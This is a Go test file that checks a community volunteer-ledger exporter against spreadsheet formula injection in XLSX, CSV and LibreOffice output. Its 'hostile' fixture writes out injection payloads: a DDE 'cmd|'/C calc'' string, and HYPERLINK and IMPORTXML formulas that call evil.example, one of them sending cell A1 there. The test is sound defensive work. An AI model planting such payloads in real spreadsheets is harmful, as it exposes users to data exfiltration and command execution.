package registers

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"zhishu/domain"
	"zhishu/internal/officetest"
)

// hostile are a hundred cells that somebody might try on a spreadsheet.
func hostile() (all []string) {
	for _, lead := range []string{"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "\n=", " =", "\u3000=", "\u200b=", "'=", "''@", "\tx=", "\r\n+", "﹦", "−"} {
		for _, tail := range []string{"1+1", "cmd|'/C calc'!A0", `HYPERLINK("http://evil.example/?"&A1,"点我")`, "SUM(A1:A9)", "IMPORTXML(\"http://evil.example\",\"//a\")"} {
			all = append(all, lead+tail)
		}
	}
	return all
}

func hostileRegister() *Register {
	r := &Register{Kind: Service, Title: "=1+1社区志愿服务台账", Unit: "单位：分钟", Community: 430702001007, Period: domain.YearPeriod(2026)}
	b := Block{Heads: []string{"序号", "志愿者编号", "活动名称", "服务时长(分钟)", "服务日期", "捐赠金额（元）"}}
	day, _ := domain.DayOf(2026, 5, 31)
	for i, s := range hostile() {
		b.Rows = append(b.Rows, []Cell{Whole(int64(i + 1)), Words("01234567890123456789"), Words(s), Whole(int64(60 + i)), On(day), Fen(domain.Fen(-100*i - 5))})
		r.Trace = append(r.Trace, Line{Item: s, Value: Words(s), Unit: s, How: s, HowEn: s})
	}
	b.Total = []Cell{Words("合计"), {}, {}, Whole(60*100 + 99*50), {}, Fen(-100*99*50 - 500)}
	r.Blocks = []Block{b}
	return r
}

// TestAHundredHostileCells: none of them is a formula, in a workbook or in CSV,
// and numbers, dates and numbers of persons stay what they are.
func TestAHundredHostileCells(t *testing.T) {
	r := hostileRegister()
	if n := len(r.Blocks[0].Rows); n != 100 {
		t.Fatalf("%d cells", n)
	}
	var book bytes.Buffer
	if err := r.XLSX(&book); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(book.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(f.GetSheetList(), " "); got != "台账 "+TraceSheet {
		t.Errorf("sheets %s", got)
	}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j := range row {
				at, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, err := f.GetCellFormula(sheet, at); formula != "" || err != nil {
					t.Errorf("%s %s runs %q", sheet, at, formula)
				}
				if strings.HasPrefix(row[j], "=") {
					t.Errorf("%s %s begins like a formula: %q", sheet, at, row[j])
				}
			}
		}
	}
	for at, want := range map[string]excelize.CellType{"A4": excelize.CellTypeUnset, "B4": excelize.CellTypeInlineString, "D4": excelize.CellTypeUnset, "E4": excelize.CellTypeUnset, "F4": excelize.CellTypeUnset} {
		if got, err := f.GetCellType("台账", at); got != want || err != nil {
			t.Errorf("%s is of type %d, want %d: %v", at, got, want, err)
		}
	}
	for name, write := range map[string]func(*bytes.Buffer) error{
		"csv": func(b *bytes.Buffer) error { return r.CSV(b) }, "trace": func(b *bytes.Buffer) error { return r.TraceCSV(b) },
	} {
		var out bytes.Buffer
		if err := write(&out); err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(out.Bytes(), []byte("\uFEFF")) {
			t.Errorf("%s has no byte order mark", name)
		}
		read := csv.NewReader(bytes.NewReader(out.Bytes()[3:]))
		read.FieldsPerRecord = -1
		rows, err := read.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for _, cell := range row {
				if _, err := fmt.Sscanf(cell, "%f", new(float64)); err == nil && !strings.ContainsAny(cell, "(|") {
					continue // a negative amount is a number
				}
				if strings.ContainsAny(firstOf(cell), "=+-@\t\r\n＝＋－＠﹦−") {
					t.Errorf("%s row %d: %q may run", name, i+1, cell)
				}
			}
		}
	}
}

// firstOf is the first character that a spreadsheet looks at.
func firstOf(s string) string {
	s = strings.TrimLeft(s, " \u3000\u200b")
	for _, r := range s {
		return string(r)
	}
	return ""
}

// TestLibreOfficeReadsIt converts the workbook to CSV, as a committee's office
// would open it: numbers come back as numbers, texts as texts.
func TestLibreOfficeReadsIt(t *testing.T) {
	rows := throughLibreOffice(t, hostileRegister())
	var sum int
	for i, s := range hostile() {
		row := rows[i+3]
		if row[1] != "01234567890123456789" || row[4] != "2026-05-31" {
			t.Fatalf("row %d: %q", i+4, row)
		}
		if strings.Contains(row[2], "Err:") || row[2] == "2" || !strings.Contains(strings.ReplaceAll(row[2], "\r", ""), strings.TrimLeft(strings.ReplaceAll(s, "\r", ""), "\t\n ")) {
			t.Errorf("row %d: %q of %q", i+4, row[2], s)
		}
		var minutes int
		if _, err := fmt.Sscan(row[3], &minutes); err != nil {
			t.Errorf("row %d: %q is no number", i+4, row[3])
		}
		sum += minutes
	}
	if total := rows[103]; total[0] != "合计" || total[3] != fmt.Sprint(sum) || total[5] != "-4955.00" {
		t.Errorf("total %q, sum %d", rows[103], sum)
	}
}

// TestLibreOfficeCountsWithIt: what is a number in the register is one in
// LibreOffice's own document, a date a date, and a text no formula.
func TestLibreOfficeCountsWithIt(t *testing.T) {
	document := convert(t, hostileRegister(), officetest.Document)
	kinds := map[string]int{}
	for _, m := range regexp.MustCompile(`<table:table-cell[^>]*`).FindAllString(document, -1) {
		if strings.Contains(m, "table:formula") {
			t.Errorf("a formula: %s", m)
		}
		for _, kind := range []string{"float", "date", "string"} {
			if strings.Contains(m, `office:value-type="`+kind+`"`) {
				kinds[kind]++
			}
		}
	}
	// 100 rows with three numbers and a date, their total, and in the trace a
	// number of facts in each line, the ledger size and its day.
	if kinds["float"] != 300+2+100+1 || kinds["date"] != 101 || kinds["string"] < 200 {
		t.Errorf("%v", kinds)
	}
}

// throughLibreOffice is the first sheet of a register's workbook as LibreOffice
// writes it again.
func throughLibreOffice(t *testing.T, r *Register) [][]string {
	t.Helper()
	text := convert(t, r, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false")
	read := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\uFEFF")))
	read.FieldsPerRecord = -1
	rows, err := read.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func convert(t *testing.T, r *Register, to string) string {
	t.Helper()
	dir := t.TempDir()
	file, err := os.Create(filepath.Join(dir, "register.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	if err := r.XLSX(file); err != nil {
		t.Fatal(err)
	}
	if err := file.Close(); err != nil {
		t.Fatal(err)
	}
	return officetest.Converted(t, to, file.Name())[0]
}
